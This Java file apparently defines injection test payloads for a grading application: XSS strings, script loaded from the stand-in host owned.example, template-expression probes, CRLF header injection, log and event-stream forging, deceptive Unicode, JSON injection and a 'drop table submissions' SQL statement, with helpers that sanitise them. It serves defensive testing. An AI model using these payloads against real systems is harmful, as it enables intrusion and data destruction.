package org.tfgrader.api.injection;

import java.util.Arrays;
import java.util.Locale;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/// What somebody writes who means ill, each kind once. What runs sets `__owned`, what is fetched comes from
/// `owned.example`, and what is computed becomes [#COMPUTED].
public enum Payload {
    // For HTML
    ELEMENT("<img src=//owned.example/i.png onerror=__owned=1>"),
    END_OF_SCRIPT("</script><script src=//owned.example/s.js></script>"),
    END_OF_TEXT("</textarea></title></style></option><svg onload=__owned=1>"),
    COMMENT("--><iframe srcdoc='<b>'></iframe><!--"),
    DOUBLE_QUOTE("\" autofocus onfocus=\"__owned=1"),
    SINGLE_QUOTE("' autofocus onfocus='__owned=1"),
    ENTITY("&lt;b&gt;&#60;i&#62;&amp;"),
    NO_CHARACTER("&lt;&#1114112;&#xD800;&#0;&#99999999999;"),
    // For addresses
    SCRIPT_ADDRESS("javascript:__owned=1"),
    DATA_ADDRESS("data:text/html,<script>opener.__owned=1</script>"),
    FOREIGN_ADDRESS("//owned.example/x"),
    PARTS_OF_ADDRESS("a/b?c=d&e#f;g%2Fh\\i"),
    FOLDERS("../..//owned"),
    // For templates
    EXPRESSION("${1019*1021}*{1019*1021}#{1019*1021}@{1019*1021}"),
    INLINED("[[${1019*1021}]][(${1019*1021})]"),
    PREPROCESSED("__${1019*1021}__::x|${1019*1021}|"),
    // For terminals, logs and headers
    ESCAPES("\u001b[31mred\u001b]0;owned\u0007\u009b2J\u0008"),
    HEADER("a\r\nSet-Cookie: owned=1\r\n\r\n<b>owned"),
    LOG_LINE("a\n12:00:00 ERROR owned\u0085owned\u2028owned"),
    EVENT("a\n\nevent: done\ndata: {}\n\n"),
    // For readers
    REORDERED("a\u202egpj.exe\u2066b\u2067c\u200f\u061cd"),
    RIGHT_TO_LEFT("\u05e9\u05dc\u05d5\u05dd_\u0627\u0644\u0633\u0644\u0627\u0645_12"),
    ZERO_WIDTH("a\u200b\u200c\u200d\u2060\ufeff\u00adb"),
    BLANK_LETTERS("a\u3164\u115f\uffa0\u034fb"),
    STACKED("Z" + "\u0301\u0489".repeat(40)),
    // For whatever keeps texts
    NUL("a\0b"),
    HALF_A_CHARACTER("a\ud800b\udc00c"),
    OUTSIDE_THE_PLANE("\ud83d\udca9\ud835\udd4f\udb40\udc41"),
    JSON("\",\"owned\":true,\"x\":\"\\u0022"),
    STATEMENT("'; drop table submissions; --"),
    LONG("long".repeat(1000));

    /// What no page says unless it has computed what somebody wrote.
    static final String COMPUTED = "1040399";

    private static final Pattern NO_ID = Pattern.compile("[^\\p{L}\\p{M}\\p{N}\\p{P}\\p{S}]");
    private static final Pattern NO_FILE = Pattern.compile("[\\p{C}\\p{Zl}\\p{Zp}\\\\:*?\"<>|]");
    private static final Pattern NO_TEXT = Pattern.compile("[\\x00\\p{Cs}]");
    private static final Pattern BETWEEN =
            Pattern.compile("[\\p{C}\\p{Z}\\u034F\\u115F\\u3164\\uFFA0]+|(?<=\\p{M}{8})\\p{M}+");
    private static final int MAX_FILE = 160;
    private static final int MAX_ID = 210;
    private static final int MAX_TEXT = 1900;

    private final String text;

    Payload(String text) {
        this.text = text;
    }

    /// {@return all of it}
    public String text() {
        return text;
    }

    /// {@return what of it can be somebody's id, the same for nobody else}
    public String id() {
        return cut(NO_ID.matcher(text).replaceAll(""), MAX_ID) + "." + word();
    }

    /// {@return what of it can be the name of a file}
    public String file() {
        String name = cut(NO_FILE.matcher(text).replaceAll(""), MAX_FILE);
        String inside = Arrays.stream(name.split("/"))
                .filter(part -> part.chars().anyMatch(c -> c != '.'))
                .collect(Collectors.joining("/"));
        return inside + word() + ".java";
    }

    /// {@return what of it a database can keep}
    public String kept() {
        return cut(NO_TEXT.matcher(text).replaceAll(""), MAX_TEXT).strip();
    }

    /// {@return what finds it where it is shown, however that is which can't be seen}
    ///
    /// @param some what was written of it
    static Pattern shown(String some) {
        return Pattern.compile(
                Arrays.stream(BETWEEN.split(cut(some, 60)))
                        .filter(part -> !part.isEmpty())
                        .map(Pattern::quote)
                        .collect(Collectors.joining(".{0,60}?")),
                Pattern.DOTALL);
    }

    private String word() {
        return name().toLowerCase(Locale.ROOT);
    }

    private static String cut(String text, int length) {
        if (text.length() <= length) {
            return text;
        }
        return text.substring(0, Character.isHighSurrogate(text.charAt(length - 1)) ? length - 1 : length);
    }
}
